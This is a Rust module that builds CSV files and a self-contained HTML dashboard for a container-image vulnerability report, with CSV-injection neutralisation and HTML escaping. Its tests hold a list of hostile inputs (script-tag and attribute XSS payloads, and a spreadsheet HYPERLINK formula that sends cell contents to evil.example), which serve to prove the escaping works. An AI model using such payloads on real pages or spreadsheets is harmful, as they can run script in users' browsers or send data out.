//! The posture report's files (docs/report.md): `findings.csv` and
//! `coverage.csv` (RFC 4180, CSV injection neutralised) and `index.html`,
//! one self-contained page whose charts are inline SVG. Plain functions of
//! a [`Report`]: no I/O.
//!
//! Every chart is an `<svg>` with a stable id ([`CHART_IDS`]) and one
//! element of class `point` per data point, so a test in a real browser
//! can count what was drawn against the data it was drawn from.

use crate::domain::report::{
    BySeverity, CoverageRow, FindingRow, OwnerFigures, Report, RepositoryFigures, Summary,
};
use crate::domain::severity::Severity;
use crate::domain::text::{is_plain_http_url, one_line};
use std::fmt::Write;

/// The columns of `findings.csv`, in order (docs/report.md, "findings.csv").
pub const FINDINGS_COLUMNS: &[&str] = &[
    "owner",
    "account",
    "region",
    "repository",
    "digest",
    "tags",
    "vulnerability",
    "severity",
    "exploit",
    "epss",
    "first_observed",
    "deadline",
    "overdue",
    "fix",
];

/// The columns of `coverage.csv`, in order (docs/report.md, "coverage.csv").
pub const COVERAGE_COLUMNS: &[&str] = &[
    "owner",
    "account",
    "region",
    "repository",
    "digest",
    "tags",
    "scan_status",
    "last_scan",
    "not_watched",
];

/// Open findings by severity over the last runs: one point per severity
/// and run.
pub const CHART_OPEN: &str = "open-by-severity";
/// Per owner: overdue findings (one point each) and the share fixed within
/// the deadline (one point per owner whose share is known).
pub const CHART_OWNERS: &str = "owners-deadlines";
/// Images watched against images current: one point per series and run.
pub const CHART_COVERAGE: &str = "coverage";
/// The repositories with the most open findings: one point each.
pub const CHART_TOP: &str = "top-repositories";
/// Every chart's id, in the order of the page.
pub const CHART_IDS: [&str; 4] = [CHART_OPEN, CHART_OWNERS, CHART_COVERAGE, CHART_TOP];

/// Tags in one cell are joined by a space: ECR tags hold none.
const TAG_SEPARATOR: &str = " ";

// ---------------------------------------------------------------- CSV

/// A cell a spreadsheet would run as a formula gets a leading `'`: those
/// starting with `=`, `+`, `-`, `@`, a tab or a carriage return (OWASP,
/// "CSV Injection").
fn neutralised(cell: &str) -> String {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}"),
        _ => cell.to_string(),
    }
}

/// One RFC 4180 field: quoted when it holds a comma, a quote or a line
/// break, its quotes doubled.
fn field(cell: &str) -> String {
    let cell = neutralised(cell);
    if cell.contains([',', '"', '\r', '\n']) {
        format!("\"{}\"", cell.replace('"', "\"\""))
    } else {
        cell
    }
}

/// One record, CRLF-terminated as RFC 4180 writes them.
fn record<S: AsRef<str>>(out: &mut String, cells: &[S]) {
    let line: Vec<String> = cells.iter().map(|c| field(c.as_ref())).collect();
    out.push_str(&line.join(","));
    out.push_str("\r\n");
}

/// `2026-12-07T08:00:00Z`, or empty.
fn date_time(epoch: Option<i64>) -> String {
    epoch
        .and_then(|t| chrono::DateTime::from_timestamp(t, 0))
        .map(|t| t.to_rfc3339_opts(chrono::SecondsFormat::Secs, true))
        .unwrap_or_default()
}

/// `2026-12-07`, or empty.
fn date(epoch: Option<i64>) -> String {
    epoch
        .and_then(|t| chrono::DateTime::from_timestamp(t, 0))
        .map(|t| t.format("%Y-%m-%d").to_string())
        .unwrap_or_default()
}

/// `findings.csv`: the header, then one row per open finding.
pub fn findings_csv(rows: &[FindingRow]) -> String {
    let mut out = String::new();
    record(&mut out, FINDINGS_COLUMNS);
    for row in rows {
        record(
            &mut out,
            &[
                row.owner.clone(),
                row.account.clone(),
                row.region.clone(),
                row.repository.clone(),
                row.digest.clone(),
                row.tags.join(TAG_SEPARATOR),
                row.vulnerability.clone(),
                row.severity.as_str().to_string(),
                row.exploit.map(|e| e.to_string()).unwrap_or_default(),
                row.epss.map(|e| e.to_string()).unwrap_or_default(),
                date_time(row.first_observed),
                date(row.deadline),
                row.overdue_days.map(|d| d.to_string()).unwrap_or_default(),
                row.fix.clone(),
            ],
        );
    }
    out
}

/// `coverage.csv`: the header, then one row per current image.
pub fn coverage_csv(rows: &[CoverageRow]) -> String {
    let mut out = String::new();
    record(&mut out, COVERAGE_COLUMNS);
    for row in rows {
        record(
            &mut out,
            &[
                row.owner.clone(),
                row.account.clone(),
                row.region.clone(),
                row.repository.clone(),
                row.digest.clone(),
                row.tags.join(TAG_SEPARATOR),
                row.scan_status.clone().unwrap_or_default(),
                date_time(row.last_scan),
                row.not_watched.clone().unwrap_or_default(),
            ],
        );
    }
    out
}

// --------------------------------------------------------------- HTML

/// Text for HTML, in element content and in quoted attributes alike: on
/// one line (no bidirectional overrides), the five special characters as
/// entities.
fn esc(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in one_line(text).chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

/// At most `max` characters, an ellipsis marking a cut (chart labels; the
/// full text is in the point's tooltip).
fn clip(text: &str, max: usize) -> String {
    let text = one_line(text);
    if text.chars().count() <= max {
        text
    } else {
        let kept: String = text.chars().take(max.saturating_sub(1)).collect();
        format!("{kept}…")
    }
}

fn severity_colour(severity: Severity) -> &'static str {
    match severity {
        Severity::Critical => "#b3261e",
        Severity::High => "#e8710a",
        Severity::Medium => "#b58b00",
        _ => "#3b6fd8",
    }
}

const CURRENT_COLOUR: &str = "#5f6b7a";
const WATCHED_COLOUR: &str = "#1e8e3e";
const OVERDUE_COLOUR: &str = "#b3261e";
const SHARE_COLOUR: &str = "#1e8e3e";

/// The page's only style: a system font stack, nothing fetched; charts
/// scale to their column, long names wrap, so the page fits a 1366 px
/// screen whatever it shows.
const STYLE: &str = "\
*{box-sizing:border-box}\
html{-webkit-text-size-adjust:100%}\
body{margin:0;padding:24px;font:15px/1.45 system-ui,-apple-system,\"Segoe UI\",Roboto,\"Helvetica Neue\",Arial,sans-serif;color:#1f2328;background:#f6f7f9}\
main{max-width:1240px;margin:0 auto}\
h1{font-size:1.6em;margin:0 0 .2em}\
h2{font-size:1.15em;margin:0 0 .3em}\
p,li,td,th,figcaption{overflow-wrap:anywhere}\
.meta{color:#4d5561;margin:.2em 0}\
.late{border-left:4px solid #b3261e;background:#fdecea;padding:.6em 1em;margin:1em 0}\
.grid{display:grid;grid-template-columns:repeat(auto-fit,minmax(min(100%,520px),1fr));gap:20px;margin:20px 0}\
section,figure{background:#fff;border:1px solid #d8dde3;border-radius:6px;padding:16px;margin:0;min-width:0}\
figure svg{display:block;width:100%;height:auto;max-width:100%}\
figcaption{color:#4d5561;font-size:.9em;margin-top:.4em}\
.legend{list-style:none;padding:0;margin:.4em 0 0;display:flex;flex-wrap:wrap;gap:4px 16px;font-size:.9em}\
.legend i{display:inline-block;width:12px;height:12px;border-radius:2px;margin-right:6px;vertical-align:-1px}\
table{border-collapse:collapse;width:100%;font-size:.92em}\
th,td{text-align:left;padding:4px 8px;border-bottom:1px solid #e4e7eb;vertical-align:top}\
td.n,th.n{text-align:right;font-variant-numeric:tabular-nums}\
a{color:#0b57d0}\
svg text{font-family:system-ui,-apple-system,\"Segoe UI\",Roboto,\"Helvetica Neue\",Arial,sans-serif;font-size:12px;fill:#1f2328}\
svg .axis{stroke:#8a939e;stroke-width:1}\
svg .grid-line{stroke:#e4e7eb;stroke-width:1}\
svg .muted{fill:#5f6b7a}";

/// `index.html`: the report as one page, nothing fetched, no script.
/// `console_link` is the S3 console link to the report's folder, shown
/// when it is a plain http(s) URL.
pub fn index_html(report: &Report, console_link: Option<&str>) -> String {
    let summary = &report.summary;
    let runs = report.runs();
    let mut out = String::with_capacity(32 * 1024);
    let title = format!("Vulnerability posture report, {}", summary.date);
    let _ = write!(
        out,
        "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n\
         <meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\n\
         <meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; form-action 'none'\">\n\
         <link rel=\"icon\" href=\"data:,\">\n<title>{}</title>\n<style>{STYLE}</style>\n</head>\n<body>\n<main>\n",
        esc(&title)
    );
    header(&mut out, summary, &title, console_link);
    out.push_str("<div class=\"grid\">\n");
    open_chart(&mut out, &runs, &summary.threshold);
    owners_chart(&mut out, &summary.owners);
    coverage_chart(&mut out, &runs);
    top_chart(&mut out, &summary.top_repositories, &summary.threshold);
    out.push_str("</div>\n");
    totals(&mut out, summary);
    owners_table(&mut out, &summary.owners);
    out.push_str(
        "<p class=\"meta\">The files beside this page: <a href=\"findings.csv\">findings.csv</a> \
         (one row per open finding), <a href=\"coverage.csv\">coverage.csv</a> (one row per \
         current image), <a href=\"summary.json\">summary.json</a> (the figures behind the \
         charts).</p>\n</main>\n</body>\n</html>\n",
    );
    out
}

fn header(out: &mut String, summary: &Summary, title: &str, console_link: Option<&str>) {
    let _ = writeln!(out, "<header>\n<h1>{}</h1>", esc(title));
    let _ = writeln!(
        out,
        "<p class=\"meta\">Generated {} &middot; open findings at or above <strong>{}</strong> \
         (policy applied) &middot; {}</p>",
        esc(&summary.generated_at),
        esc(&summary.threshold),
        esc(&summary.scope)
    );
    if let Some(link) = console_link.filter(|l| is_plain_http_url(l)) {
        let _ = writeln!(
            out,
            "<p class=\"meta\"><a href=\"{}\" rel=\"noopener noreferrer\">This report's folder \
             in the S3 console</a></p>",
            esc(link)
        );
    }
    if !summary.registries_late.is_empty() {
        let _ = writeln!(
            out,
            "<div class=\"late\" id=\"registries-late\"><strong>Not read:</strong> their \
             repositories are missing from this report.<ul>"
        );
        for registry in &summary.registries_late {
            let _ = writeln!(out, "<li>{}</li>", esc(registry));
        }
        out.push_str("</ul></div>\n");
    }
    out.push_str("</header>\n");
}

/// The top of a value axis: a round number at or above `max` (at least
/// 1), and its step, so that the axis has at most five lines.
fn axis(max: u64) -> (u64, u64) {
    let mut step = 1u64;
    for factor in [2u64, 5, 10].iter().cycle() {
        if step * 4 >= max {
            break;
        }
        // 1, 2, 5, 10, 20, 50, … : multiply by 2, 2.5, 2.
        step = match factor {
            2 => step * 2,
            5 => step / 2 * 5,
            _ => step * 2,
        };
    }
    let top = max.div_ceil(step).max(1) * step;
    (top, step)
}

/// Plot area of the trend charts, in the SVG's own units.
struct Plot {
    left: f64,
    top: f64,
    width: f64,
    height: f64,
    max: u64,
    runs: usize,
}

impl Plot {
    const VIEW_WIDTH: f64 = 600.0;
    const VIEW_HEIGHT: f64 = 300.0;

    fn new(max: u64, runs: usize) -> Plot {
        Plot {
            left: 52.0,
            top: 14.0,
            width: Plot::VIEW_WIDTH - 52.0 - 24.0,
            height: 196.0,
            max,
            runs,
        }
    }

    fn x(&self, run: usize) -> f64 {
        if self.runs <= 1 {
            self.left + self.width / 2.0
        } else {
            self.left + self.width * run as f64 / (self.runs - 1) as f64
        }
    }

    fn y(&self, value: u64) -> f64 {
        self.top + self.height - self.height * value as f64 / self.max.max(1) as f64
    }

    /// Grid lines with their values, the axes, and the runs' dates.
    fn frame(&self, out: &mut String, step: u64, dates: &[&str], y_title: &str) {
        let mut value = 0;
        while value <= self.max {
            let y = self.y(value);
            let _ = writeln!(
                out,
                "<line class=\"grid-line\" x1=\"{:.1}\" y1=\"{y:.1}\" x2=\"{:.1}\" y2=\"{y:.1}\"/>\
                 <text x=\"{:.1}\" y=\"{:.1}\" text-anchor=\"end\" class=\"muted\">{value}</text>",
                self.left,
                self.left + self.width,
                self.left - 6.0,
                y + 4.0
            );
            value += step;
        }
        let bottom = self.top + self.height;
        let _ = writeln!(
            out,
            "<line class=\"axis\" x1=\"{l:.1}\" y1=\"{t:.1}\" x2=\"{l:.1}\" y2=\"{bottom:.1}\"/>\
             <line class=\"axis\" x1=\"{l:.1}\" y1=\"{bottom:.1}\" x2=\"{r:.1}\" y2=\"{bottom:.1}\"/>",
            l = self.left,
            t = self.top,
            r = self.left + self.width
        );
        for (i, d) in dates.iter().enumerate() {
            let x = self.x(i);
            let _ = writeln!(
                out,
                "<line class=\"axis\" x1=\"{x:.1}\" y1=\"{bottom:.1}\" x2=\"{x:.1}\" y2=\"{:.1}\"/>\
                 <text class=\"date\" text-anchor=\"end\" transform=\"translate({:.1} {:.1}) rotate(-40)\">{}</text>",
                bottom + 4.0,
                x + 4.0,
                bottom + 16.0,
                esc(d)
            );
        }
        let _ = writeln!(
            out,
            "<text x=\"14\" y=\"{:.1}\" text-anchor=\"middle\" transform=\"rotate(-90 14 {:.1})\" class=\"muted\">{}</text>\
             <text x=\"{:.1}\" y=\"{:.1}\" text-anchor=\"middle\" class=\"muted\">run date (UTC)</text>",
            self.top + self.height / 2.0,
            self.top + self.height / 2.0,
            esc(y_title),
            self.left + self.width / 2.0,
            Plot::VIEW_HEIGHT - 4.0
        );
    }

    /// One series: its line (two runs or more) and one point per run.
    fn series(&self, out: &mut String, name: &str, colour: &str, values: &[(&str, u64)]) {
        if values.len() > 1 {
            let points: Vec<String> = values
                .iter()
                .enumerate()
                .map(|(i, (_, v))| format!("{:.1},{:.1}", self.x(i), self.y(*v)))
                .collect();
            let _ = writeln!(
                out,
                "<polyline fill=\"none\" stroke=\"{colour}\" stroke-width=\"2\" points=\"{}\"/>",
                points.join(" ")
            );
        }
        for (i, (date, value)) in values.iter().enumerate() {
            let _ = writeln!(
                out,
                "<circle class=\"point\" data-series=\"{}\" data-run=\"{}\" data-value=\"{value}\" \
                 cx=\"{:.1}\" cy=\"{:.1}\" r=\"4\" fill=\"{colour}\" stroke=\"#fff\" stroke-width=\"1\">\
                 <title>{}, {}: {value}</title></circle>",
                esc(name),
                esc(date),
                self.x(i),
                self.y(*value),
                esc(name),
                esc(date)
            );
        }
    }
}

fn figure_open(out: &mut String, id: &str, heading: &str, height: f64, label: &str) {
    let _ = writeln!(
        out,
        "<figure>\n<h2 id=\"{id}-title\">{}</h2>\n<svg id=\"{id}\" viewBox=\"0 0 {:.0} {height:.0}\" \
         role=\"img\" aria-labelledby=\"{id}-title\" preserveAspectRatio=\"xMidYMid meet\">\
         <title>{}</title>",
        esc(heading),
        Plot::VIEW_WIDTH,
        esc(label)
    );
}

fn legend(out: &mut String, entries: &[(&str, &str)]) {
    out.push_str("<ul class=\"legend\">");
    for (colour, name) in entries {
        let _ = write!(
            out,
            "<li><i style=\"background:{colour}\"></i>{}</li>",
            esc(name)
        );
    }
    out.push_str("</ul>\n");
}

fn severity_name(severity: Severity) -> String {
    let upper = severity.as_str();
    format!("{}{}", &upper[..1], upper[1..].to_ascii_lowercase())
}

/// a. Open findings by severity over the last runs.
fn open_chart(out: &mut String, runs: &[&Summary], threshold: &str) {
    let dates: Vec<&str> = runs.iter().map(|s| s.date.as_str()).collect();
    let max = runs
        .iter()
        .flat_map(|s| s.open.pairs().map(|(_, n)| n))
        .max()
        .unwrap_or(0);
    let (top, step) = axis(max);
    let plot = Plot::new(top, runs.len());
    figure_open(
        out,
        CHART_OPEN,
        "Open findings by severity",
        Plot::VIEW_HEIGHT,
        &format!(
            "Open findings at or above {threshold} by severity, over the last {} run(s)",
            runs.len()
        ),
    );
    plot.frame(out, step, &dates, "open findings");
    for (i, severity) in BySeverity::default()
        .pairs()
        .map(|(s, _)| s)
        .into_iter()
        .enumerate()
    {
        let values: Vec<(&str, u64)> = runs
            .iter()
            .map(|s| (s.date.as_str(), s.open.pairs()[i].1))
            .collect();
        plot.series(
            out,
            &severity_name(severity),
            severity_colour(severity),
            &values,
        );
    }
    out.push_str("</svg>\n");
    let names: Vec<(String, &str)> = BySeverity::default()
        .pairs()
        .map(|(s, _)| (severity_name(s), severity_colour(s)))
        .into_iter()
        .collect();
    let entries: Vec<(&str, &str)> = names.iter().map(|(n, c)| (*c, n.as_str())).collect();
    legend(out, &entries);
    let _ = writeln!(
        out,
        "<figcaption>Open findings at or above {} after the policy, by the severity they route \
         at, one point per digest run (the last {} at most).</figcaption>\n</figure>",
        esc(threshold),
        crate::domain::report::HISTORY_RUNS
    );
}

/// The share fixed within the deadline, when known: `(fixed in time, fixed
/// with a deadline)`, the second above zero.
fn share(owner: &OwnerFigures) -> Option<(u64, u64)> {
    match (owner.fixed_in_time, owner.fixed_with_deadline) {
        (Some(in_time), Some(fixed)) if fixed > 0 => Some((in_time.min(fixed), fixed)),
        _ => None,
    }
}

/// b. Overdue findings and the share fixed within the deadline, per owner.
fn owners_chart(out: &mut String, owners: &[OwnerFigures]) {
    const ROW: f64 = 28.0;
    const HEAD: f64 = 30.0;
    const LABEL_END: f64 = 150.0;
    const OVERDUE_START: f64 = 160.0;
    const OVERDUE_WIDTH: f64 = 140.0;
    const SHARE_START: f64 = 350.0;
    const SHARE_WIDTH: f64 = 140.0;
    let height = HEAD + ROW * owners.len().max(1) as f64 + 10.0;
    figure_open(
        out,
        CHART_OWNERS,
        "Deadlines per owner",
        height,
        "Overdue findings, and the share of findings fixed within their deadline since the last \
         digest, per owner",
    );
    let _ = writeln!(
        out,
        "<text x=\"{OVERDUE_START}\" y=\"16\" class=\"muted\">Overdue findings</text>\
         <text x=\"{SHARE_START}\" y=\"16\" class=\"muted\">Fixed within deadline</text>"
    );
    if owners.is_empty() {
        let _ = writeln!(
            out,
            "<text x=\"{LABEL_END}\" y=\"{:.1}\" text-anchor=\"end\" class=\"muted\">no owner in \
             this run</text>",
            HEAD + 18.0
        );
    }
    let max = owners.iter().map(|o| o.overdue).max().unwrap_or(0).max(1);
    for (i, owner) in owners.iter().enumerate() {
        let y = HEAD + ROW * i as f64;
        let name = esc(&owner.owner);
        let _ = writeln!(
            out,
            "<text x=\"{LABEL_END}\" y=\"{:.1}\" text-anchor=\"end\">{}<title>{name}</title></text>",
            y + 17.0,
            esc(&clip(&owner.owner, 22))
        );
        let width = OVERDUE_WIDTH * owner.overdue as f64 / max as f64;
        let _ = writeln!(
            out,
            "<rect class=\"point\" data-series=\"overdue\" data-owner=\"{name}\" data-value=\"{}\" \
             x=\"{OVERDUE_START}\" y=\"{:.1}\" width=\"{width:.1}\" height=\"18\" fill=\"{OVERDUE_COLOUR}\">\
             <title>{name}: {} overdue</title></rect>\
             <text x=\"{:.1}\" y=\"{:.1}\">{}</text>",
            owner.overdue,
            y + 4.0,
            owner.overdue,
            OVERDUE_START + width + 6.0,
            y + 17.0,
            owner.overdue
        );
        let _ = writeln!(
            out,
            "<rect x=\"{SHARE_START}\" y=\"{:.1}\" width=\"{SHARE_WIDTH}\" height=\"18\" fill=\"#eef0f3\"/>",
            y + 4.0
        );
        match share(owner) {
            Some((in_time, fixed)) => {
                let ratio = in_time as f64 / fixed as f64;
                let percent = (ratio * 100.0).round() as u64;
                let _ = writeln!(
                    out,
                    "<rect class=\"point\" data-series=\"fixed-in-time\" data-owner=\"{name}\" \
                     data-value=\"{ratio:.4}\" x=\"{SHARE_START}\" y=\"{:.1}\" width=\"{:.1}\" \
                     height=\"18\" fill=\"{SHARE_COLOUR}\"><title>{name}: {in_time} of {fixed} \
                     fixed within the deadline</title></rect>\
                     <text x=\"{:.1}\" y=\"{:.1}\">{percent}% ({in_time} of {fixed})</text>",
                    y + 4.0,
                    SHARE_WIDTH * ratio,
                    SHARE_START + SHARE_WIDTH + 6.0,
                    y + 17.0
                );
            }
            None => {
                let _ = writeln!(
                    out,
                    "<text x=\"{:.1}\" y=\"{:.1}\" class=\"muted na\">n/a</text>",
                    SHARE_START + 6.0,
                    y + 17.0
                );
            }
        }
    }
    out.push_str("</svg>\n");
    legend(
        out,
        &[
            (OVERDUE_COLOUR, "Overdue (past the policy's sla)"),
            (SHARE_COLOUR, "Fixed within deadline"),
        ],
    );
    out.push_str(
        "<figcaption>Overdue: open findings past their deadline now. Fixed within deadline: of \
         the findings with a deadline fixed since the last digest, those fixed before it passed; \
         n/a when none was fixed or new and fixed are not known this run.</figcaption>\n</figure>\n",
    );
}

/// c. Images watched against images current, over the last runs.
fn coverage_chart(out: &mut String, runs: &[&Summary]) {
    let dates: Vec<&str> = runs.iter().map(|s| s.date.as_str()).collect();
    let max = runs
        .iter()
        .map(|s| s.images_current.max(s.images_watched))
        .max()
        .unwrap_or(0);
    let (top, step) = axis(max);
    let plot = Plot::new(top, runs.len());
    figure_open(
        out,
        CHART_COVERAGE,
        "Coverage over time",
        Plot::VIEW_HEIGHT,
        &format!(
            "Images current and images scanning watches, over the last {} run(s)",
            runs.len()
        ),
    );
    plot.frame(out, step, &dates, "images");
    let current: Vec<(&str, u64)> = runs
        .iter()
        .map(|s| (s.date.as_str(), s.images_current))
        .collect();
    let watched: Vec<(&str, u64)> = runs
        .iter()
        .map(|s| (s.date.as_str(), s.images_watched))
        .collect();
    plot.series(out, "Images current", CURRENT_COLOUR, &current);
    plot.series(out, "Images watched", WATCHED_COLOUR, &watched);
    out.push_str("</svg>\n");
    legend(
        out,
        &[
            (CURRENT_COLOUR, "Images current"),
            (WATCHED_COLOUR, "Images watched"),
        ],
    );
    out.push_str(
        "<figcaption>Current: images pushed or pulled within the digest's window. Watched: those \
         scanning covers (a current scan, no failure status). The gap is what no scan \
         watches.</figcaption>\n</figure>\n",
    );
}

/// d. The repositories with the most open findings at or above the
/// threshold, stacked by severity.
fn top_chart(out: &mut String, repositories: &[RepositoryFigures], threshold: &str) {
    const ROW: f64 = 26.0;
    const HEAD: f64 = 8.0;
    const LABEL_END: f64 = 250.0;
    const BAR_START: f64 = 258.0;
    const BAR_WIDTH: f64 = 290.0;
    let height = HEAD + ROW * repositories.len().max(1) as f64 + 8.0;
    figure_open(
        out,
        CHART_TOP,
        "Repositories with the most open findings",
        height,
        &format!("The repositories with the most open findings at or above {threshold}"),
    );
    if repositories.is_empty() {
        let _ = writeln!(
            out,
            "<text x=\"{:.1}\" y=\"{:.1}\" text-anchor=\"middle\" class=\"muted\">nothing open \
             at or above {}</text>",
            Plot::VIEW_WIDTH / 2.0,
            HEAD + 17.0,
            esc(threshold)
        );
    }
    let max = repositories
        .iter()
        .map(|r| r.open.total())
        .max()
        .unwrap_or(0)
        .max(1);
    for (i, repo) in repositories.iter().enumerate() {
        let y = HEAD + ROW * i as f64;
        let total = repo.open.total();
        let full = format!(
            "{} (account {}, {}; owner {})",
            repo.repository, repo.account, repo.region, repo.owner
        );
        let counts: Vec<String> = repo
            .open
            .pairs()
            .iter()
            .filter(|(_, n)| *n > 0)
            .map(|(s, n)| format!("{n} {}", s.as_str().to_ascii_lowercase()))
            .collect();
        let _ = writeln!(
            out,
            "<text x=\"{LABEL_END}\" y=\"{:.1}\" text-anchor=\"end\">{}<title>{}</title></text>",
            y + 16.0,
            esc(&clip(&repo.repository, 34)),
            esc(&full)
        );
        let _ = writeln!(
            out,
            "<g class=\"point\" data-repository=\"{}\" data-account=\"{}\" data-value=\"{total}\">\
             <title>{}: {}</title>",
            esc(&repo.repository),
            esc(&repo.account),
            esc(&full),
            esc(&counts.join(", "))
        );
        let mut x = BAR_START;
        for (severity, n) in repo.open.pairs() {
            if n == 0 {
                continue;
            }
            let width = BAR_WIDTH * n as f64 / max as f64;
            let _ = writeln!(
                out,
                "<rect class=\"segment\" x=\"{x:.1}\" y=\"{:.1}\" width=\"{width:.1}\" height=\"18\" fill=\"{}\"/>",
                y + 3.0,
                severity_colour(severity)
            );
            x += width;
        }
        let _ = writeln!(
            out,
            "</g><text x=\"{:.1}\" y=\"{:.1}\">{total}</text>",
            x + 6.0,
            y + 16.0
        );
    }
    out.push_str("</svg>\n");
    let names: Vec<(String, &str)> = BySeverity::default()
        .pairs()
        .map(|(s, _)| (severity_name(s), severity_colour(s)))
        .into_iter()
        .collect();
    let entries: Vec<(&str, &str)> = names.iter().map(|(n, c)| (*c, n.as_str())).collect();
    legend(out, &entries);
    let _ = writeln!(
        out,
        "<figcaption>At most {} repositories, most open first; hover a bar for its account, \
         region and owner.</figcaption>\n</figure>",
        crate::domain::report::TOP_REPOSITORIES
    );
}

fn totals(out: &mut String, summary: &Summary) {
    out.push_str(
        "<section id=\"totals\">\n<h2>Totals</h2>\n<table>\n<thead><tr><th></th>\
         <th class=\"n\">Critical</th><th class=\"n\">High</th><th class=\"n\">Medium</th>\
         <th class=\"n\">Low</th><th class=\"n\">Total</th></tr></thead>\n<tbody>\n",
    );
    for (name, counts) in [("Open", &summary.open), ("Overdue", &summary.overdue)] {
        let _ = write!(out, "<tr><th>{name}</th>");
        for (_, n) in counts.pairs() {
            let _ = write!(out, "<td class=\"n\">{n}</td>");
        }
        let _ = writeln!(out, "<td class=\"n\">{}</td></tr>", counts.total());
    }
    let not_watched = summary
        .images_current
        .saturating_sub(summary.images_watched);
    let _ = writeln!(
        out,
        "</tbody>\n</table>\n<p class=\"meta\">Images current: <strong>{}</strong>, watched: \
         <strong>{}</strong>, not watched: <strong>{not_watched}</strong>. Owners: {}.</p>\n</section>",
        summary.images_current,
        summary.images_watched,
        summary.owners.len()
    );
}

fn owners_table(out: &mut String, owners: &[OwnerFigures]) {
    if owners.is_empty() {
        return;
    }
    out.push_str(
        "<section id=\"owners\" style=\"margin-top:20px\">\n<h2>Per owner</h2>\n<table>\n<thead><tr>\
         <th>Owner</th><th class=\"n\">Critical</th><th class=\"n\">High</th>\
         <th class=\"n\">Medium</th><th class=\"n\">Low</th><th class=\"n\">Overdue</th>\
         <th class=\"n\">Fixed within deadline</th><th class=\"n\">Images watched</th></tr></thead>\n<tbody>\n",
    );
    for owner in owners {
        let _ = write!(out, "<tr><td>{}</td>", esc(&owner.owner));
        for (_, n) in owner.open.pairs() {
            let _ = write!(out, "<td class=\"n\">{n}</td>");
        }
        let fixed = match share(owner) {
            Some((in_time, fixed)) => format!("{in_time} of {fixed}"),
            None => "n/a".into(),
        };
        let _ = writeln!(
            out,
            "<td class=\"n\">{}</td><td class=\"n\">{fixed}</td><td class=\"n\">{} of {}</td></tr>",
            owner.overdue, owner.images_watched, owner.images_current
        );
    }
    out.push_str("</tbody>\n</table>\n</section>\n");
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::report::SCHEMA_VERSION;

    const HOSTILE: &[&str] = &[
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(2)>",
        "' onmouseover='alert(3)",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+1",
        "-2",
        "@SUM(1)",
        "\t=1",
        "\r=2",
        "a,b",
        "say \"hi\"",
        "two\nlines",
        "back\\slash;semi",
    ];

    /// RFC 4180 read back as Python's csv module reads it (quotes doubled
    /// inside quoted fields, CRLF or LF between records).
    fn parse_csv(text: &str) -> Vec<Vec<String>> {
        let mut records = Vec::new();
        let mut record = Vec::new();
        let mut cell = String::new();
        let mut quoted = false;
        let mut chars = text.chars().peekable();
        while let Some(c) = chars.next() {
            if quoted {
                match c {
                    '"' if chars.peek() == Some(&'"') => {
                        chars.next();
                        cell.push('"');
                    }
                    '"' => quoted = false,
                    c => cell.push(c),
                }
                continue;
            }
            match c {
                '"' => quoted = true,
                ',' => record.push(std::mem::take(&mut cell)),
                '\r' if chars.peek() == Some(&'\n') => {}
                '\n' => {
                    record.push(std::mem::take(&mut cell));
                    records.push(std::mem::take(&mut record));
                }
                c => cell.push(c),
            }
        }
        assert!(!quoted, "an unterminated quoted field");
        assert!(cell.is_empty() && record.is_empty(), "no final CRLF");
        records
    }

    fn hostile_finding(name: &str) -> FindingRow {
        FindingRow {
            owner: name.into(),
            account: "123456789012".into(),
            region: "us-east-1".into(),
            repository: name.into(),
            digest: "sha256:00".into(),
            tags: vec![name.into(), "v1".into()],
            vulnerability: name.into(),
            severity: Severity::Critical,
            exploit: Some(true),
            epss: Some(0.91),
            first_observed: Some(1_796_000_000),
            deadline: Some(1_796_000_000 + 15 * 86_400),
            overdue_days: Some(3),
            fix: name.into(),
        }
    }

    fn expected_cell(name: &str) -> String {
        if name.starts_with(['=', '+', '-', '@', '\t', '\r']) {
            format!("'{name}")
        } else {
            name.to_string()
        }
    }

    #[test]
    fn findings_csv_neutralises_formulas_and_reads_back() {
        let rows: Vec<FindingRow> = HOSTILE.iter().map(|n| hostile_finding(n)).collect();
        let text = findings_csv(&rows);
        let records = parse_csv(&text);
        assert_eq!(records[0], FINDINGS_COLUMNS);
        assert_eq!(records.len(), HOSTILE.len() + 1);
        for (name, record) in HOSTILE.iter().zip(&records[1..]) {
            assert_eq!(record.len(), FINDINGS_COLUMNS.len(), "{name:?}: {record:?}");
            let cell = expected_cell(name);
            assert_eq!(record[0], cell, "owner");
            assert_eq!(record[3], cell, "repository");
            assert_eq!(record[6], cell, "vulnerability");
            assert_eq!(record[13], cell, "fix");
            assert_eq!(record[5], expected_cell(&format!("{name} v1")), "tags");
            for value in record {
                assert!(
                    !value.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{name:?}: {value:?} would run as a formula"
                );
            }
        }
        assert_eq!(
            &records[1][7..13],
            [
                "CRITICAL",
                "true",
                "0.91",
                "2026-11-30T00:53:20Z",
                "2026-12-15",
                "3"
            ]
        );
        assert!(text.ends_with("\r\n"));
    }

    #[test]
    fn unknown_values_are_empty_cells() {
        let row = FindingRow {
            exploit: None,
            epss: None,
            first_observed: None,
            deadline: None,
            overdue_days: None,
            tags: Vec::new(),
            ..hostile_finding("plain/repo")
        };
        let records = parse_csv(&findings_csv(&[row]));
        assert_eq!(records[1][5], "");
        assert_eq!(&records[1][8..13], ["", "", "", "", ""]);
        let records = parse_csv(&findings_csv(&[]));
        assert_eq!(records, [FINDINGS_COLUMNS]);
    }

    #[test]
    fn coverage_csv_neutralises_formulas_and_reads_back() {
        let rows: Vec<CoverageRow> = HOSTILE
            .iter()
            .map(|name| CoverageRow {
                owner: name.to_string(),
                account: "123456789012".into(),
                region: "us-east-1".into(),
                repository: name.to_string(),
                digest: "sha256:00".into(),
                tags: vec![name.to_string()],
                scan_status: Some("FAILED".into()),
                last_scan: Some(1_796_000_000),
